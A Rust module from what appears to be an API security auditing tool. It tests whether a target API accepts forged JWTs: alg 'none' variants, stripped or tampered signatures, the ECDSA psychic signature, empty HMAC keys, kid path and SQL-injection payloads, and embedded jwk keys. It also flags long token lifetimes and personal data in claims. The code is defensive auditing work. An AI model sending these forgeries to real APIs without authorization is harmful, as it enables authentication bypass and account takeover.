//! The access token the login returned (or `--token`): its lifetime and claims, and whether the
//! API accepts forgeries of it. Every jwt_tool test that needs no key is here: `alg: none` in
//! four spellings with and without the trailing dot, the signature removed, a claim edited
//! under the old signature, another token's signature, the ECDSA "psychic signature" (r = s = 0,
//! CVE-2022-21449) for ES256/384/512 tokens, HMAC with an empty key, `kid` injection (a path
//! to /dev/null with an empty key, and SQL that selects a key the auditor chose), an embedded
//! `jwk` header (an Ed25519 key the auditor generates, and an HS256 `oct` key), and HS256
//! signed with a public key from the JWKS (algorithm confusion). The HMAC secret itself is
//! guessed offline in [`super::jwt_secrets`], which also checks that `exp` is enforced when
//! it finds the secret.
//!
//! A forgery counts as accepted only when the probe route answers 2xx to the real token and
//! 401/403 to garbage: an API that answers 200 to everything proves nothing. Each forgery is
//! one request; a spent budget ends the token checks where they are. When the API accepts the
//! token with its signature removed or its claims edited, it checks no signature at all, and
//! the other key-less forgeries are not sent: they could only repeat that finding.
//!
//! Deliberately not tested: `jku` and `x5u` headers pointing at a key set elsewhere (the
//! scanner never contacts, or makes the target contact, another origin; hosting a key set on
//! the target is not possible), and an embedded RS256 `jwk` (signing RSA would pull in the
//! `rsa` crate; the Ed25519 and `oct` keys test the same trust in a carried key).

use serde_json::{json, Value};

use super::jwt::{
    b64url, embedded_ed25519_token, encode, hmac_token, is_accepted, psychic_signatures, unix_now,
    HmacAlg, Jwt, KID_DEV_NULL,
};
use super::{confusion, jwt_secrets, random_bytes, Ctx};
use crate::client::{ProbeError, Req};
use crate::findings::{self, Check, Finding, Severity};

const ONE_HOUR: u64 = 3600;
/// Probe routes tried when the document names no secured GET without parameters.
const FALLBACK_PROBES: [&str; 4] = ["/v1/users/me", "/users/me", "/me", "/api/me"];
/// The spellings of `none` libraries have been caught comparing case-sensitively.
const NONE_SPELLINGS: [&str; 4] = ["none", "None", "NONE", "nOnE"];

pub(crate) async fn run(ctx: &mut Ctx<'_>) -> Result<(), ProbeError> {
    let Some(token) = ctx.token.clone() else {
        ctx.note(
            "no access token (give --username/--password or --token): token checks were not run",
        );
        return Ok(());
    };
    let probe = probe_route(ctx, &token).await?;
    let Some(jwt) = Jwt::parse(&token) else {
        ctx.note("the access token is not a JWT: claim and forgery checks do not apply");
        return Ok(());
    };
    claims(ctx, &jwt);
    let expired_accepted = probe
        .as_deref()
        .is_some_and(|probe| expired_token_accepted(ctx, &jwt, probe));
    // Offline: the dictionary needs no request, so it runs without a probe route too.
    let secret = jwt_secrets::find_secret(&jwt);
    if let Some(found) = &secret {
        jwt_secrets::report_and_prove(ctx, &jwt, found, probe.as_deref()).await?;
    }
    let Some(probe) = probe else {
        return Ok(());
    };
    let signature_ignored = basic_forgeries(ctx, &jwt, &token, &probe).await?;
    if signature_ignored {
        ctx.note("the API accepts tokens whose signature does not match: the other key-less forgeries (another token's signature, psychic signature, empty HMAC key, kid injection, embedded jwk) were not sent, as they could only repeat that");
    } else {
        keyless_forgeries(ctx, &jwt, &probe, secret.as_ref()).await?;
    }
    match &secret {
        Some(found) if !expired_accepted => {
            jwt_secrets::expiry_enforced(ctx, &jwt, found, &probe).await?;
        }
        Some(_) => {}
        None => ctx.note("whether expired tokens are refused was not checked: that needs a token the auditor can sign (the HMAC secret was not guessed)"),
    }
    confusion::run(ctx, &jwt, &probe).await
}

/// The real token, already past its `exp`, answered 2xx on the probe route: no request needed.
fn expired_token_accepted(ctx: &mut Ctx<'_>, jwt: &Jwt, probe: &str) -> bool {
    let Some(exp) = jwt.claims.get("exp").and_then(Value::as_u64) else {
        return false;
    };
    let now = unix_now();
    if exp >= now {
        return false;
    }
    ctx.report(Finding::new(
        &findings::EXPIRY_IGNORED,
        Severity::High,
        format!(
            "the access token expired {} minutes ago (exp {exp}) and GET {probe} still answers it with 2xx",
            (now - exp) / 60
        ),
    ));
    true
}

/// Sends `token` to the probe route; the status when it was accepted.
pub(crate) async fn accepted_by(
    ctx: &mut Ctx<'_>,
    probe: &str,
    token: &str,
) -> Result<Option<u16>, ProbeError> {
    let status = ctx.send(&Req::get(probe).bearer(token)).await?.status;
    Ok(is_accepted(status).then_some(status))
}

fn report_forgery(ctx: &mut Ctx<'_>, check: &Check, probe: &str, what: &str, status: u16) {
    ctx.report(Finding::new(
        check,
        Severity::Critical,
        format!("GET {probe} with {what} -> {status}"),
    ));
}

/// `alg: none`, the signature removed and a claim edited under the old signature; true when
/// one of the last two was accepted (the signature is not checked at all).
async fn basic_forgeries(
    ctx: &mut Ctx<'_>,
    jwt: &Jwt,
    token: &str,
    probe: &str,
) -> Result<bool, ProbeError> {
    let claims = encode(&jwt.claims);
    'none: for spelling in NONE_SPELLINGS {
        let mut header = jwt.header.clone();
        header["alg"] = Value::from(spelling);
        for trailing_dot in [true, false] {
            let dot = if trailing_dot { "." } else { "" };
            let unsigned = format!("{}.{claims}{dot}", encode(&header));
            if let Some(status) = accepted_by(ctx, probe, &unsigned).await? {
                let what = format!(
                    "the token re-encoded as alg \"{spelling}\" and no signature ({})",
                    if trailing_dot {
                        "header.payload."
                    } else {
                        "header.payload, no trailing dot"
                    }
                );
                report_forgery(ctx, &findings::ALG_NONE, probe, &what, status);
                break 'none;
            }
        }
    }

    let stripped = format!("{}.", jwt.signing_input);
    let stripped_accepted = accepted_by(ctx, probe, &stripped).await?;
    if let Some(status) = stripped_accepted {
        report_forgery(
            ctx,
            &findings::SIGNATURE_STRIPPED,
            probe,
            "the token's header and payload and an empty signature",
            status,
        );
    }

    let signature = token.rsplit('.').next().unwrap_or_default();
    let mut edited = jwt.claims.clone();
    edited["rampart_audit"] = Value::from(true);
    if let Some(exp) = edited.get("exp").and_then(Value::as_u64) {
        edited["exp"] = Value::from(exp.saturating_add(ONE_HOUR));
    }
    let tampered = format!(
        "{}.{}.{signature}",
        token.split('.').next().unwrap_or_default(),
        encode(&edited)
    );
    let tampered_accepted = accepted_by(ctx, probe, &tampered).await?;
    if let Some(status) = tampered_accepted {
        report_forgery(
            ctx,
            &findings::CLAIMS_TAMPERED,
            probe,
            "`exp` extended by an hour and a claim added, under the original signature",
            status,
        );
    }
    Ok(stripped_accepted.is_some() || tampered_accepted.is_some())
}

/// The other forgeries that need no key: each keeps the token's claims and changes only how
/// it is signed, so an accepted one proves the verifier can be talked past.
async fn keyless_forgeries(
    ctx: &mut Ctx<'_>,
    jwt: &Jwt,
    probe: &str,
    known_secret: Option<&jwt_secrets::FoundSecret>,
) -> Result<(), ProbeError> {
    let claims = &jwt.claims;
    let header_part = encode(&jwt.header);
    let claims_part = encode(claims);

    // Another token's signature: as long as a real one, made by a key nobody holds.
    let length = if jwt.signature.is_empty() {
        32
    } else {
        jwt.signature.len()
    };
    let foreign = format!(
        "{header_part}.{claims_part}.{}",
        b64url(&random_bytes(length))
    );
    if let Some(status) = accepted_by(ctx, probe, &foreign).await? {
        report_forgery(
            ctx,
            &findings::FOREIGN_SIGNATURE,
            probe,
            &format!("the token's header and payload under the {length}-byte signature of another token (random key)"),
            status,
        );
    }

    if let Some(signatures) = psychic_signatures(jwt.alg()) {
        for (signature, form) in signatures.iter().zip(["raw r || s", "DER"]) {
            let psychic = format!("{header_part}.{claims_part}.{}", b64url(signature));
            if let Some(status) = accepted_by(ctx, probe, &psychic).await? {
                report_forgery(
                    ctx,
                    &findings::PSYCHIC_SIGNATURE,
                    probe,
                    &format!(
                        "the {} token under the signature r = 0, s = 0 ({form})",
                        jwt.alg()
                    ),
                    status,
                );
                break;
            }
        }
    }

    // An empty secret is the real one when the dictionary found it; then these prove nothing.
    let secret_is_empty = known_secret.is_some_and(|found| found.secret.is_empty());
    let hmac = HmacAlg::from_name(jwt.alg()).unwrap_or(HmacAlg::Hs256);
    let mut empty_key_accepted = true;
    if !secret_is_empty {
        let empty_key = hmac_token(&jwt.header, claims, hmac, b"");
        empty_key_accepted = false;
        if let Some(status) = accepted_by(ctx, probe, &empty_key).await? {
            empty_key_accepted = true;
            report_forgery(
                ctx,
                &findings::EMPTY_HMAC_KEY,
                probe,
                &format!("the token signed {} with an empty key", hmac.name()),
                status,
            );
        }
    }

    // `kid` naming an empty file: accepted only matters when the empty key alone was refused.
    if !empty_key_accepted {
        let header = json!({"alg": "HS256", "typ": "JWT", "kid": KID_DEV_NULL});
        let forged = hmac_token(&header, claims, HmacAlg::Hs256, b"");
        if let Some(status) = accepted_by(ctx, probe, &forged).await? {
            report_forgery(
                ctx,
                &findings::KID_PATH_TRAVERSAL,
                probe,
                &format!("the token signed HS256 with an empty key and kid \"{KID_DEV_NULL}\""),
                status,
            );
        }
    }

    // A key only the injected SQL can produce: no real secret can match it by chance.
    let chosen_key = super::random_hex(16);
    let kid = format!("x' UNION SELECT '{chosen_key}'-- ");
    let header = json!({"alg": "HS256", "typ": "JWT", "kid": kid});
    let forged = hmac_token(&header, claims, HmacAlg::Hs256, chosen_key.as_bytes());
    if let Some(status) = accepted_by(ctx, probe, &forged).await? {
        report_forgery(
            ctx,
            &findings::KID_SQL_INJECTION,
            probe,
            &format!("the token signed HS256 with a random key K and kid \"x' UNION SELECT 'K'-- \" (K = {chosen_key})"),
            status,
        );
    }

    let seed: [u8; 32] = random_bytes(32).try_into().unwrap_or([0; 32]);
    let ed25519 = embedded_ed25519_token(claims, &seed);
    if let Some(status) = accepted_by(ctx, probe, &ed25519).await? {
        report_forgery(
            ctx,
            &findings::EMBEDDED_JWK,
            probe,
            "the token signed EdDSA with a key the auditor generated, carried in its `jwk` header (kty OKP, Ed25519)",
            status,
        );
        return Ok(());
    }
    let oct_key = random_bytes(32);
    let header =
        json!({"alg": "HS256", "typ": "JWT", "jwk": {"kty": "oct", "k": b64url(&oct_key)}});
    let forged = hmac_token(&header, claims, HmacAlg::Hs256, &oct_key);
    if let Some(status) = accepted_by(ctx, probe, &forged).await? {
        report_forgery(
            ctx,
            &findings::EMBEDDED_JWK,
            probe,
            "the token signed HS256 with a random key carried in its `jwk` header (kty oct)",
            status,
        );
    }
    Ok(())
}

/// Lifetime and personal data, read from the claims without sending anything.
fn claims(ctx: &mut Ctx<'_>, jwt: &Jwt) {
    // NumericDate may be written with a fraction; whole seconds are enough here.
    #[allow(clippy::cast_possible_truncation, clippy::cast_sign_loss)]
    let seconds = |name: &str| {
        jwt.claims
            .get(name)
            .and_then(Value::as_f64)
            .filter(|v| v.is_finite() && *v >= 0.0)
            .map(|v| v as u64)
    };
    let (exp, iat) = (seconds("exp"), seconds("iat"));
    let now = unix_now();
    match (exp, iat) {
        (None, _) => ctx.report(Finding::new(
            &findings::TOKEN_LIFETIME,
            Severity::High,
            "the access token has no `exp` claim: it never expires",
        )),
        (Some(exp), iat) => {
            let lifetime = exp.saturating_sub(iat.unwrap_or(now));
            if lifetime > ONE_HOUR {
                let severity = if lifetime > 24 * ONE_HOUR {
                    Severity::High
                } else {
                    Severity::Medium
                };
                ctx.report(Finding::new(
                    &findings::TOKEN_LIFETIME,
                    severity,
                    format!(
                        "exp - {} = {} minutes",
                        if iat.is_some() { "iat" } else { "now" },
                        lifetime / 60
                    ),
                ));
            }
        }
    }
    let mut personal = Vec::new();
    let mut secret = false;
    if let Some(object) = jwt.claims.as_object() {
        for (key, value) in object {
            let k = key.to_ascii_lowercase();
            if [
                "password",
                "passwd",
                "pwd",
                "secret",
                "api_key",
                "apikey",
                "ssn",
                "credit_card",
            ]
            .iter()
            .any(|s| k.contains(s))
            {
                secret = true;
                personal.push(key.clone());
            } else if [
                "email",
                "username",
                "user_name",
                "preferred_username",
                "name",
                "given_name",
                "family_name",
                "phone",
                "address",
                "birthdate",
            ]
            .contains(&k.as_str())
                || value
                    .as_str()
                    .is_some_and(|s| s.contains('@') && s.contains('.'))
            {
                personal.push(key.clone());
            }
        }
    }
    if !personal.is_empty() {
        ctx.report(Finding::new(
            &findings::TOKEN_PERSONAL_DATA,
            if secret {
                Severity::High
            } else {
                Severity::Medium
            },
            format!(
                "claims anyone holding the token can read: {}",
                personal.join(", ")
            ),
        ));
    }
}

/// A route that answers 2xx to the real token and 401/403 to garbage, or a note saying why the
/// forgery checks could not run.
async fn probe_route(ctx: &mut Ctx<'_>, token: &str) -> Result<Option<String>, ProbeError> {
    let mut candidates: Vec<String> = ctx
        .plain_gets(true)
        .take(3)
        .map(|o| o.path.clone())
        .collect();
    candidates.extend(FALLBACK_PROBES.iter().map(|p| (*p).to_owned()));
    for path in candidates.into_iter().take(5) {
        let real = ctx.send(&Req::get(&path).bearer(token)).await?;
        if !real.is_success() {
            continue;
        }
        let garbage = ctx
            .send(&Req::get(&path).bearer("rampart.audit.garbage"))
            .await?;
        if matches!(garbage.status, 401 | 403) {
            ctx.token_route = Some(path.clone());
            return Ok(Some(path));
        }
        ctx.note(format!(
            "GET {path} answers {} to the token and {} to a garbage token: it cannot tell forgeries apart, so it was not used",
            real.status, garbage.status
        ));
    }
    ctx.note("no route answered 2xx to the token and 401/403 to garbage: forged-token checks were not run");
    Ok(None)
}
